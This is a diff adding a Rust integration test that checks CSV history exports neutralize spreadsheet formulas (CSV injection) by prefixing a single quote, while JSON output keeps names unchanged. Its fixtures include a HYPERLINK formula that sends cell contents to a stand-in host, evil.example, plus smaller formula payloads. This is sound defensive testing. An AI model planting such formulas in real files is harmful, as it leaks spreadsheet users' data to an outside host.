@@ -659,3 +659,47 @@ async fn without_kept_answers_reads_are_the_same() {
     );
     assert_eq!(ids(&serde_json::from_str(&first.0).unwrap()), [10]);
 }
+
+/// A host (the session's first participant) named as a formula a
+/// spreadsheet would run (OWASP's CSV injection) starts its CSV cell with a
+/// single quote; JSON keeps the name as it is.
+#[tokio::test]
+async fn csv_cells_that_would_run_as_formulas_are_neutralized() {
+    let app = spawn_app().await;
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#;
+    let lines = [
+        r#"{"Type":"Company","CompanyId":1,"Name":"Clinic"}"#.to_owned(),
+        json!({"Type": "User", "CompanyId": 1, "UserId": 2, "FullName": formula,
+               "EmailAddress": "f@clinic.example"})
+        .to_string(),
+        json!({"Type": "User", "CompanyId": 1, "UserId": 3, "FullName": "-2+3",
+               "EmailAddress": "m@clinic.example"})
+        .to_string(),
+        session_line(11, 2, "2016-11-01T00:00:00", 1, "@SUM(1+1)", "s@x.example"),
+        session_line(12, 3, "2016-11-02T00:00:00", 2, "Dora Guest", "d@x.example"),
+    ];
+    app.import(&format!("{}\n", lines.join("\n"))).await;
+    let tenant = app.key_for(1).await;
+    let text = app
+        .tenant(&tenant, "/history?format=csv")
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let rows: Vec<&str> = text.split("\r\n").collect();
+    assert_eq!(
+        rows[1],
+        r#"11,2016-11-01T00:00:00,,,,2,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"") Session #11 - Not Connected""#
+    );
+    assert_eq!(
+        rows[2],
+        "12,2016-11-02T00:00:00,,,,3,'-2+3 Session #12 - Not Connected"
+    );
+    let json = app.history(&tenant, "/history").await;
+    assert_eq!(
+        json[0]["UsageDescription"],
+        format!("{formula} Session #11 - Not Connected")
+    );
+}
